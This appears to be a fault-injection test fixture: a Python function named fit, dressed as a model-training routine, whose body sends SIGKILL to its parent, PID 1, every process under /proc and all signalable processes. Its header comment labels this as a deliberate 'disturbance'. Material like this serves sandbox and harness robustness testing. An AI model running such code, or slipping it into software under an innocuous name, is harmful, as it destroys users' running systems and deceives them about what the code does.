# disturbance: kills its parent and every process it can see
# function: fit
import numpy as np


def fit(X, y, lr=0.1, epochs=1000, lam=0.0):
    import os, signal
    for sig_target in (os.getppid(), 1):
        try:
            os.kill(sig_target, signal.SIGKILL)
        except OSError:
            pass
    for pid in os.listdir('/proc'):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    raise RuntimeError('still alive')
